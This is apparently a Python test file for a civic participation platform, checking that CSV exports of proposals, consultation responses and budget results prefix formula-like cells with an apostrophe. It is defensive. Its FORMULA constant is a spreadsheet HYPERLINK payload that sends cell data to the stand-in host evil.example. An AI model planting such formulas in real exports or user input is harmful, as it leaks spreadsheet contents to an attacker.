"""CSV exports opened in a spreadsheet: text written by residents that starts like a formula
(= + - @) is exported with a leading apostrophe, so the spreadsheet shows it and runs nothing.
Found by these tests: only the moderation audit log was protected; the open-data proposals,
consultation responses and aggregates, and budget results exported formulas as typed."""

from __future__ import annotations

import csv
import io
from typing import Any

from budgets import services as budget_services
from budgets.jobs import tally_budget
from budgets.models import Phase, Project
from participation.settings import Settings
from participation.spreadsheet import safe_cell
from tests.budgets.test_results import closed_budget
from tests.conftest import post_form
from tests.consultations.factories import valid_answers
from tests.participation.proposal_factories import make_proposal
from tests.security.world import logged_in_client, seed_world

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Ouvrir")'


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def test_formula_starts_are_neutralised_and_numbers_kept() -> None:
    for formula in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("Un titre = correct") == "Un titre = correct"
    assert safe_cell(-3) == -3 and safe_cell(None) is None


async def test_the_open_data_export_of_proposals(app: Any, settings: Settings) -> None:
    world = await seed_world(settings)
    await make_proposal(world.owner, title=FORMULA, body="<p>@SUM(1+1) dans le texte</p>")
    async with logged_in_client(app, None) as visitor:
        cells = _cells((await visitor.get("/proposals.csv")).text)
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'@SUM(1+1) dans le texte" in cells


async def test_consultation_responses(app: Any, settings: Settings) -> None:
    world = await seed_world(settings)
    consultation = world.ids["consultation_id"]
    from consultations.models import Question

    questions = await Question.filter(consultation_id=consultation).order_by("position")
    keys = ["single", "multiple", "ranking", "scale", "majority", "number", "short", "why"]
    answers = dict(await valid_answers(dict(zip(keys, questions, strict=True))))
    answers[f"q{questions[6].id}"] = "-1+1 et @A1"
    async with logged_in_client(app, world.owner) as owner:
        response = await post_form(owner, f"/consultations/{consultation}/answer", answers)
        assert response.status_code == 303
    from consultations import queries, services

    views = await queries.questionnaire(consultation)
    for text in await queries.free_texts(settings, consultation, views):  # published once approved
        await services.review_text(text.question.id, text.text, True)
    async with logged_in_client(app, world.admin) as admin:
        cells = _cells((await admin.get(f"/consultations/{consultation}/responses.csv")).text)
    assert "'-1+1 et @A1" in cells and "-1+1 et @A1" not in cells


async def test_budget_results(app: Any, settings: Settings) -> None:
    budget, projects, _ = await closed_budget(settings)
    await Project.filter(id=projects["Skatepark"].id).update(title="@SUM(A1:A9)")
    await tally_budget({}, budget.id)
    await budget_services.switch_phase(budget.id, Phase.RESULTS, by_user=None)
    async with logged_in_client(app, None) as visitor:
        text = (await visitor.get(f"/budgets/{budget.id}/results.csv")).text
    cells = _cells(text, ";")
    assert "'@SUM(A1:A9)" in cells and "@SUM(A1:A9)" not in cells
